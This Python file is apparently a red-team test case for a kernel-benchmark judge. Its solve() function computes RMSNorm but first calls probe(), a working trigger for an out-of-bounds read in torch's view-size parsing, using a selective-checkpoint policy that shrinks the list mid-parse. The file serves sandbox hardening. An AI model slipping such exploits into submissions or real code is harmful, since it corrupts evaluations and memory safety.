# Eleventh session's red team (2026-12-07, CPU judge): torch's argument parser walks a Python list
# of sizes (Tensor.view's SymIntArrayRef) with PyList_GET_ITEM and the length it read before the
# loop. A 0-d tensor item is converted with Tensor.item(), which goes through the dispatcher; with
# the selective-checkpoint dispatch mode of the public torch.utils.checkpoint entered, every ATen
# op calls the policy function the kernel gave it, in the middle of torch's walk. The policy
# shortens the list and torch reads the list's slots past its end (8 sizes from a list of 6 in
# strict mode, with no finding; a crash when the item array was reallocated smaller: raw memory
# with the heap arranged). The answer is then computed honestly: the case shows the route refused,
# statically (torch.utils.checkpoint) and at run time (entering any Python dispatch mode:
# runtime.dispatch_mode, worker._UNAUDITED_REACH).
import torch
from torch.utils.checkpoint import create_selective_checkpoint_contexts

box = []
armed = [False]
read_past_end = []


def policy(ctx, func, *args, **kwargs):
    if armed[0] and len(box) > 6:
        armed[0] = False
        del box[6:]  # 8 items to 6; the item array is kept (no reallocation)
    return True


def probe():
    caching, _cached = create_selective_checkpoint_contexts(policy)
    z = torch.tensor(1)
    t = torch.zeros(30)
    box.clear()
    box.extend([2, z, 1, 1, 1, 1, 3, 5])
    with caching:
        armed[0] = True
        v = t.view(box)
    read_past_end.append(v.dim() - len(box))


def solve(x, residual, weight):
    probe()
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
